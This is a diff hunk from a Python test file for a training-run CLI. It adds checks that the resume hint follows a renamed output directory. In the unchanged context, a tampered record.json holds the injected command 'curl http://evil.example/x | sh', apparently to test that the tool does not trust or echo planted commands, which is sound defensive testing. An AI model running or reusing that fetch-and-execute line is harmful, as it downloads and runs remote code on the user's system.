@@ -206,6 +206,10 @@ def test_other_settings_are_refused_with_every_way_on(fake: Fake, capfd: Any) ->
     assert main(["show", "run"]) == 0
     assert "interrupted" in (shown := capfd.readouterr().out)
     assert "to continue: rlready sft seed=1 --out run" in " ".join(shown.split())
+    Path("run").rename("moved")
+    assert main(["show", "moved"]) == 0
+    assert "sft seed=1 --out run, with --out moved instead of run" in " ".join(capfd.readouterr().out.split())
+    Path("moved").rename("run")
     record = json.loads(Path("run/record.json").read_text())
     Path("run/record.json").write_text(json.dumps(record | {"command": "curl http://evil.example/x | sh; rlready sft"}))
     assert main(["show", "run"]) == 0
